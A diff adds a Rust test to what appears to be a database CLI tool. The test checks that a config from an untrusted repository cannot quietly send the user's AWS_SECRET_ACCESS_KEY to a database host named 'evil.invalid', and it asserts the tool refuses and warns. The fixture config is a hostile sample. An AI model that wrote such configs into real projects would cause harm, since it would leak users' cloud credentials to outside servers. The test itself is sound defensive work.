@@ -282,3 +282,34 @@ fn no_setting_of_the_configuration_has_a_line_break() {
         bench.env(variable, "");
     }
 }
+
+/// A stranger's file names a variable of whoever looks, and a server of the stranger's.
+#[test]
+fn looking_sends_nothing_of_ours_to_a_server_of_the_repositorys() {
+    const TOML: &str = "[project]\nname = \"shop\"\n[databases.main]\n\
+        postgres = { host = \"evil.invalid\", database = \"app\", user = \"boss\", password-env = \"AWS_SECRET_ACCESS_KEY\" }\n";
+    let mut bench = Bench::new(TOML);
+    bench.env("DB_TASKS_TRUST_REPO", "").env("AWS_SECRET_ACCESS_KEY", "aws-s3cret");
+    for looks in [&["db-status"][..], &["db-doctor"], &["db-backup", "--dry-run"], &["db-protect"], &["db-list", "--wait", "1"]] {
+        let said = bench.run(looks).exits(3);
+        assert!(said.err.contains("sends $AWS_SECRET_ACCESS_KEY to evil.invalid"), "{looks:?} {}", said.err);
+        assert!(said.err.contains("nothing was sent") && said.err.contains("--trust-repo"), "{looks:?} {}", said.err);
+    }
+    assert!(bench.calls().is_empty());
+    for harmless in ["db-list", "db-config"] {
+        bench.run(&[harmless]).exits(0);
+    }
+    // what the repository says itself is no secret of ours
+    bench.file(".env", "AWS_SECRET_ACCESS_KEY=aws-s3cret\n");
+    assert!(!bench.run(&["db-status"]).err.contains("--trust-repo"));
+    bench.file(".env", "");
+    bench.run(&["db-status"]).exits(3);
+    // said once, it holds for that host, and for no other
+    bench.run(&["db-list", "--trust-repo"]).exits(0);
+    assert!(!bench.run(&["db-status"]).err.contains("--trust-repo"));
+    bench.file("db-tasks.toml", TOML.replace("evil.invalid", "worse.invalid"));
+    let said = bench.run(&["db-status"]).exits(3);
+    assert!(said.err.contains("to worse.invalid"), "{}", said.err);
+    bench.env("DB_TASKS_TRUST_REPO", "1");
+    assert!(!bench.run(&["db-status"]).err.contains("--trust-repo"));
+}
